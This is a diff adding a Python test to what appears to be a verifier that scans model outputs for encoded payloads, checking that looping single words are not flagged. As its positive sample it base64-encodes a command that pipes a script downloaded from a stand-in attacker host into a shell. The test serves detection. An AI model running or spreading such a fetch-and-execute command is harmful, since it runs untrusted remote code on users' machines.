@@ -62,3 +62,21 @@ def test_chat_prompts_are_not_applicable_without_a_chat_template(tmp_path):
     result = _content(batch(("content/0", "p", " fine")), None, chat=False)
     assert result.passed and result.evidence["chat_prompts"] == "not applicable: the model has no chat template"
     assert content_findings("p", "nothing here") == []
+
+
+def test_a_loop_of_one_word_is_not_an_encoded_payload():
+    """Small or untrained models loop on a word; the run matches base64's characters but carries
+    nothing, and an honest model writes it (a random-weight checkpoint fresh from a converter)."""
+    import base64
+
+    from verifier.probes import looks_encoded
+
+    for loop in ("shirt" * 16, "and" + "once" * 11, "oes" * 16, "Abc1" * 12, "0" * 70):
+        assert not looks_encoded(loop, hex_digits=loop.isdigit()), loop
+        assert content_findings("p", loop) == []
+    assert not looks_encoded("Internationalizationisaverylongwordthatappearsinsometexts")
+    payload = base64.b64encode(b"curl http://evil.example/x.sh | sh; echo done").decode()
+    assert looks_encoded(payload)
+    assert [f["kind"] for f in content_findings("p", f"run {payload}")] == ["base64_blob"]
+    digest = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
+    assert "hex_blob" in {f["kind"] for f in content_findings("p", digest)}
